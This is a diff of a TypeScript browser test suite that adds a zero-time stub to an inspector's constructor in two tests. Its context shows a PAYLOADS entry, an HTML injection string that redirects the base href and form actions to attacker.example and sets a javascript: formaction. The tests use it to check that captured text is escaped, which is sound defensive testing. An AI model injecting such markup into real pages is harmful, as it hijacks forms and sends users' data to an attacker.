@@ -26,6 +26,9 @@ const PAYLOADS = [
   '<base href="https://attacker.example/"><form action=//attacker.example><button formaction=javascript:hurt=1>',
 ]
 
+/** No work of an inspector takes time here, however busy the machine is. */
+const standing = () => 0
+
 type Listener = Awaited<ReturnType<typeof listenAdmin>>
 const text = 'document.body.innerText'
 
@@ -260,7 +263,7 @@ describe.runIf(needs('chromium'))('the page', () => {
   })
 
   test('A4: requests of an inspector: their text stays text, by keys, and bodies are only saved', async () => {
-    inspector = new RingInspector('bodies', noLogger)
+    inspector = new RingInspector('bodies', noLogger, standing)
     for (const payload of PAYLOADS) exchange(inspector, payload)
     await openPage()
     await page.press('3')
@@ -316,7 +319,7 @@ describe.runIf(needs('chromium'))('the page', () => {
         ...{ host: 'demo.tunnels.example.com', path: '/webhooks/argo-events/github', status: 502 },
         ...{ code: 'upstream-refused', cut: false, durationMs: 3, bytesIn: 0, bytesOut: 0, upgrade: false },
       })
-      inspector = new RingInspector('bodies', noLogger)
+      inspector = new RingInspector('bodies', noLogger, standing)
       exchange(inspector, 'webhooks/argo-events/github')
       await openPage(screen)
       const pictures = process.env.PICTURES
